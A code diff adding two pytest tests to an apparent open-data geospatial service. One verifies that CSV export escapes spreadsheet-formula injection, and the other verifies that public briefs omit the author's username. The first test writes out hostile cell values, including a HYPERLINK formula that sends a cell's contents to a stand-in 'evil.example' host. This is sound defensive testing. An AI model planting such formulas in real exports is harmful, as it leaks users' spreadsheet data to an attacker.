@@ -563,3 +563,50 @@ def test_bad_addresses_are_a_4xx_without_the_value_sent_back(client, admin_heade
     assert r.status_code == 404
     r = client.get("/open/data/hotspots.csv")  # served by the OGC API, said so
     assert r.status_code == 404 and "/ogc/collections/hotspots" in r.json()["error"]["message"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, db_url, sessionmaker_for):
+    """CSV injection: a text cell starting with = + - @ (or a tab, or their full-width forms) is prefixed with ' so
+    that Excel or LibreOffice show it as text; numbers (negative ones too), empty and Thai text are unchanged."""
+    assert open_service.csv_cell('=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
+    for hostile in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠x"):
+        assert open_service.csv_cell(hostile) == "'" + hostile, hostile
+    assert [open_service.csv_cell(v) for v in (-3, -1.5, 0, None, True, False, "แพร่", "a=b", "")] == [
+        -3,
+        -1.5,
+        0,
+        "",
+        "true",
+        "false",
+        "แพร่",
+        "a=b",
+        "",
+    ]
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"credit")'
+    with sessionmaker_for(db_url).begin() as s:  # a layer's credit as a hostile loader might write it
+        s.execute(text("UPDATE layer_sources SET attribution = :a, title = '@cmd'"), {"a": hostile})
+    rows = _csv(client, "reference_layers")
+    assert rows and all(r["attribution"] == "'" + hostile and r["title"] == "'@cmd" for r in rows)
+    assert all(not r["feature_count"].startswith("'") for r in rows)
+
+
+def test_public_brief_names_no_staff_and_the_page_says_briefs_show_small_counts(client, admin_headers, login):
+    """A published brief (page and PDF) leaves out its author's user name, which staff still read; /open says
+    next to the briefs that a brief shows its counts as approved, small ones included."""
+    author = login("brief.author7", "administrator")
+    r = client.post("/api/v1/briefs", headers=author, json={"fiscal_year_be": 2567, "province": "54"})
+    assert r.status_code == 201, r.text
+    brief = r.json()["id"]
+    with client.app.state.sessionmaker() as s, s.begin():
+        from geo_service.reports import brief as brief_pages
+
+        assert "by brief.author7" in brief_pages.brief_html(s, brief)  # staff's copy
+    assert client.put(f"/api/v1/briefs/{brief}/public", headers=admin_headers, json={"public": True}).status_code == 200
+    with client.app.state.sessionmaker() as s, s.begin():
+        public_html = open_service.public_brief_html(s, brief)
+    assert "brief.author7" not in public_html and f"Brief no. {brief}, made " in public_html
+    pdf = client.get(f"/open/briefs/{brief}.pdf")
+    assert pdf.status_code == 200 and b"brief.author7" not in pdf.content
+    page = client.get("/open").text
+    note = re.search(r'<p class="note" id="brief-counts">(.*?)</p>', page, re.S)
+    assert note and "below 5" in note.group(1) and "&lt;5" in note.group(1)
